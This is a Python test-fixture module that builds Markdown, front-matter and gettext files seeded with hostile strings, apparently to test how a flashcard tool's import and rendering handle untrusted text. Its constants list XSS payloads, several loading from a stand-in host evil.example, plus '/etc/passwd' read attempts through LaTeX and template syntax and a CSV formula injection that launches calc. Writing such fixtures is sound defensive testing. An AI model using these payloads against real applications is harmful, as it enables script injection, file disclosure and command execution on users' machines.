"""Texts that strangers may write to make something happen on a learner's card, and documents full of them.

`go()` is what they would run. Every text is one line, since it has to stand in a title as well as in a table.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import polib

SCRIPTS = (
    "<script>go()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>go()</scr</script>ipt>", "<script\x00>go()</script>", "<script/x>go()</script>",
    "</script><script>go()</script>", "<script>go()", "<img src=x onerror=go()>",
    "<img src=//evil.example/p.png>", "<img/src/onerror=go()>", "<image href=//evil.example/x>",
    "<svg onload=go()>", "<svg><script>go()</script></svg>",
    "<svg><animate onbegin=go() attributeName=x dur=1s>", "<svg><use href=//evil.example/x#y /></svg>",
    "<math><mtext><script>go()</script></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=go()></annotation-xml></math>",
    "<iframe srcdoc='<script>parent.go()</script>'>", "<iframe src=javascript:go()>",
    "<object data=//evil.example/x>", "<embed src=//evil.example/x>", "<video src=//evil.example/v autoplay>",
    "<audio src=x onerror=go() autoplay>", "<body onload=go()>", "<details open ontoggle=go()>",
    "<input autofocus onfocus=go()>", "<select onfocus=go() autofocus>", "<marquee onstart=go()>",
    "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>",
    "<div style=position:fixed>x</div>", "<p style='background:url(//evil.example/x)'>x</p>",
    "<b onmouseover=go()>x</b>", "<a href=javascript:go()>x</a>",
    "<a href='data:text/html,<script>go()</script>'>x</a>", "<a href=java&#9;script:go()>x</a>",
    "<table background=//evil.example/x>", "<ruby onclick=go()>a<rt>b</rt></ruby>",
    "<kbd id=qa class=card onclick=go()>x</kbd>", "<x-y onclick=go()>x</x-y>",
)  # fmt: skip
UNCLOSED = (
    "<!-- hush", "-->", "<!-->", "<![CDATA[ x", "]]>", "<?php go() ?>", "<!DOCTYPE x>", "<textarea>",
    "</textarea>", "<title>", "<xmp>", "<plaintext>", "<noscript>", "<template>", "<div", "<div class='",
    "</div></div></div>", "</style>", "<b><i>x</b></i>", "<", ">", "<>", "</>", "<a<b", "a < b > c",
    "&lt;!-- x", "&",
)  # fmt: skip
LINKS = (
    "[x](javascript:go())", "[x](JaVaScRiPt:go())", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:go())", "[x](//evil.example)", "[x](<javascript:go()>)", "![x](//evil.example/p.png)",
    "![x](javascript:go())", "<javascript:go()>", "<https://evil.example/?a=1&section=2>", "[x][y]", "[[x|y]]",
    "![[x]]", "[x]( 'y\" onclick=go()')",
)  # fmt: skip
ANKI = (
    "[sound:gong.mp3]", "[SOUND:gong.mp3]", "[sound:", "[so[sound:x]und:y]",
    "[anki:tts lang=en_US]hello[/anki:tts]", "[anki:play:q:0]", "[latex]\\input{/etc/passwd}[/latex]",
    "[LaTeX]a+b[/LaTeX]", "[$]a+b[/$]", "[$$]a+b[/$$]", "[$", "[latex", "[[type:Source]]",
    "[[type:nc:TargetAnswer]]", "[[[type:A]]]", "{{c1::hidden::hint}}", "{{c1::a {{c2::b}} }}", "{{c1::", "}}",
    "{{TargetTitle}}", "{{FrontSide}}", "{{#Spare1}}x{{/Spare1}}", "{{^Spare1}}x{{/Spare1}}",
    "{{tts en_US:TargetAnswer}}", "{{hint:Source}}", "{{{{x}}}}", "{ {x} }", "{=<% %>=}x", "std::vector::x",
    ":::::", "::",
)  # fmt: skip
TEMPLATES = (
    "<% include '/etc/passwd' %>", "<< question >>", "<# x #>", "{% include 'x' %}", "{# x #}", "${go()}",
    "#{go()}", "<%= go() %>", "{title}", "{native}", "{front.secret}", "%%DATA%%", "%s%n", "{0.__class__}",
    "{{< figure src='//evil.example/x' >}}", "{{% x %}}",
)  # fmt: skip
MATH = (
    r"\(a+b\)", r"\[a+b\]", r"\\(a+b\\)", "$a+b$", "$$a+b$$", r"$\href{javascript:go()}{x}$",
    r"\begin{align}x\end{align}", r"$\unicode{x3c}script>$", r"\(\require{html}\style{x}{y}\)", r"$a}}b$",
    r"$[sound:x]$", r"$\text{</script>}$", "\\", r"\\", r"\ue000",
)  # fmt: skip
CHARACTERS = (
    "un\x1fit", "be\x07ll\x1b[2J", "nu\x00ll", "ta\tb", "de\x7fl", "c1\x85\x9b", "bi\u202edi\u202c",
    "iso\u2066late", "ze\u200bro", "wj\u2060x", "bom\ufeffx", "line\u2028sep\u2029", "private\ue000use",
    "non\ufffechar\uffff", "soft\u00adhyphen", "a\u0338b", "\u0301" * 40, "e" + "\u0301\u0323" * 300,
    "tag\U000e0041s", "\U0010ffff", "W" * 400, "lang" * 200, "ﷺ" * 30, "﷽", "👩\u200d👩\u200d👧", "عربي <b>",
    "ˍ\u115f\u3164",
)  # fmt: skip
ESCAPES = (
    "&lt;script&gt;go()&lt;/script&gt;", "&amp;lt;script&amp;gt;go()", "&amp;amp;lt;x&amp;amp;gt;",
    "&#60;script&#62;go()", "&#x3c;script&#x3e;go()", "&#91;sound:x]", "&#92;(a+b&#92;)", "&#123;&#123;c1::x}}",
    "&lbrack;sound:x&rbrack;", "&NewLine;&Tab;x", r"\u003cscript\u003ego()", r"\x3cscript>", "%3Cscript%3E",
    "&#0;&#1;&#x1f;", "&copy &nbsp &lt", "&#55296;", "&unknown;", "'\"`",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", '=HYPERLINK("//evil.example")', 'guid,"x"\r=1',
    "#separator:comma",
)  # fmt: skip
HOSTILE = (*SCRIPTS, *UNCLOSED, *LINKS, *ANKI, *TEMPLATES, *MATH, *CHARACTERS, *ESCAPES, *FORMULAS)
"""All of them."""

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def escaped(text: str) -> str:
    """The text as Markdown that means it as it is."""
    return _PUNCTUATION.sub(r"\\\1", text)


Front = Callable[[str, str, str], str]
"""(title, description, keyword) -> front matter."""


def _yaml(title: str, description: str, keyword: str) -> str:
    values = {"title": title, "description": description, "keywords": [keyword]}
    return "---\n" + "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items()) + "---\n"


def _bare_yaml(title: str, description: str, keyword: str) -> str:
    return f"---\ntitle: {title}\ndescription: {description}\nkeywords: {keyword}\n---\n"


def _toml(title: str, description: str, keyword: str) -> str:
    values = {"title": title, "description": description, "keywords": [keyword]}
    return "+++\n" + "".join(f"{key} = {json.dumps(value)}\n" for key, value in values.items()) + "+++\n"


def _json(title: str, description: str, keyword: str) -> str:
    return json.dumps({"title": title, "description": description, "keywords": [keyword]}, indent=1) + "\n"


def _multimarkdown(title: str, description: str, keyword: str) -> str:
    return f"Title: {title}\nDescription: {description}\nKeywords: {keyword}\n\n"


def _elixir(title: str, description: str, keyword: str) -> str:
    values = ",\n".join(
        f"  {key}: {json.dumps(value, ensure_ascii=False)}"
        for key, value in (("title", title), ("description", description), ("keywords", keyword))
    )
    return f"%{{\n{values}\n}}\n---\n"


FRONTS: Mapping[str, Front] = {
    "YAML": _yaml,
    "bare YAML": _bare_yaml,
    "TOML": _toml,
    "JSON": _json,
    "MultiMarkdown": _multimarkdown,
    "Elixir": _elixir,
}
_WORDS = {
    "en": (
        "lantern",
        "A lantern is a lamp with a handle and {} glass walls that protect its flame.",
        "Parts",
        "What is it?",
    ),
    "it": (
        "lanterna",
        "Una lanterna è una lampada con manico e {} pareti di vetro per la fiamma.",
        "Parti",
        "Che cos'è?",
    ),
}
_LINES = {
    "en": (
        "The old sailor wrote {} for his lantern.",
        "A tank of oil {} lasts for 12 nights.",
        "The wick {}",
        "Why does it {} burn?",
        "It burns {} since the air comes in from below.",
        "Most lanterns {} are made of brass and glass.",
    ),
    "it": (
        "Il vecchio marinaio scrisse {} per la lanterna.",
        "Un serbatoio d'olio {} dura 12 notti.",
        "Lo stoppino {}",
        "Perché {} brucia?",
        "Brucia {} perché l'aria entra dal basso.",
        "Quasi tutte le lanterne {} sono di ottone e vetro.",
    ),
}


def document(language: str, text: str, front: Front) -> str:
    """A document with a hostile text in every place."""
    name, about, parts, asks = _WORDS[language]
    wrote, lasts, label, why, burns, most = (line.format(text) for line in _LINES[language])
    plain = _LINES[language][0].format(escaped(text))
    about = about.format(text)
    return "\n\n".join(
        (
            front(f"{name} {text}", about, text),
            f"# {name} {text}",
            f"## {asks}\n\n{about}",
            f"## {parts} {text}\n\n{most}",
            f"- {plain}\n- {wrote}\n- {lasts}\n- **{label}**: {burns}\n- [{text}](/{text}) {most}",
            f"> ### 12 {text}\n>\n> {lasts}",
            f"> {most}",
            f"> [!NOTE] {text}\n> {burns}",
            f":::tip[{text}]\n{wrote}\n:::",
            f"## {why}\n\n{burns} {wrote}",
            f"| {label} | {parts} |\n|---|---|\n| {text} | {burns} |\n| {name} | {wrote} |",
            f"{label}\n: {burns}",
            f'{{{{< note title="{text}" >}}}}\n{most}\n{{{{< /note >}}}}',
            f"## {parts}\n\n- {wrote}\n- {lasts}\n- {most}\n",
        )
    )


def file_name(text: str) -> str:
    """As much of a text as this system lets a file be called."""
    held = text.encode("utf-8", "ignore").decode()
    refused = r'[/\\<>:"|?*\x00-\x1f]|[. ]+$' if os.name == "nt" else r"[/\x00]"
    return re.sub(refused, "", held)[:50]


def documents(texts: Mapping[str, str]) -> Iterator[tuple[str, str]]:
    """(path, document) of an article in two languages for each text, which also names its file, or every other time
    its folder; the forms of front matter in turn."""
    fronts = list(FRONTS.values())
    for index, (name, text) in enumerate(texts.items()):
        called = f"{name} {file_name(text)}"
        path = f"{called}/{name}.md" if index % 2 else f"{called}.md"
        for language in ("en", "it"):
            yield f"{language}/{path}", document(language, text, fronts[index % len(fronts)])


def catalogued(name: str, text: str) -> tuple[str, str, str]:
    """(path, document, entries) of an article in English whose Italian texts stand in a catalogue; a hostile text is in
    every message and in every translation."""
    path = f"en/{name}-catalogued.md"
    units, messages = [], []
    for mark, *sides in _catalogued_units(text):
        english, italian = (" ".join(side.split()) for side in sides)
        units.append(mark + english)
        messages.append(str(polib.POEntry(msgid=english, msgstr=italian, occurrences=[(path, "1")])))
    return path, "\n\n".join(units), "\n".join(messages)


def _catalogued_units(text: str) -> Iterator[tuple[str, str, str]]:
    """(mark, English, Italian)"""
    (name, about, parts, asks), (nome, che, parti, domanda) = _WORDS.values()
    yield "# ", f"{name} {text}", f"{nome} {text}"
    yield "## ", asks, domanda
    yield "", about.format(text), che.format(text)
    yield "## ", f"{parts} {text}", f"{parti} {text}"
    lines = list(zip(*_LINES.values(), strict=True))
    wrote, lasts, _, why, burns, most = [tuple(side.format(text) for side in sides) for sides in lines]
    plain = [side.format(escaped(text)) for side in lines[0]]
    for mark, sides in (
        ("", most),
        ("- ", wrote),
        ("- ", plain),
        ("- ", lasts),
        ("> ", burns),
        ("## ", why),
        ("", burns),
    ):
        yield mark, *sides


def write_documents(folder: Path, texts: Mapping[str, str]) -> Path:
    """The documents of some texts in a folder, and a catalogue; what UTF-8 cannot hold stands there as bytes that are
    none."""
    found = dict(documents(texts))
    catalogue = ['msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n']
    for name, text in texts.items():
        source, found[source], entries = catalogued(name, text)
        catalogue.append(entries)
    found["po/it.po"] = "\n".join(catalogue)
    for name, text in found.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
    return folder
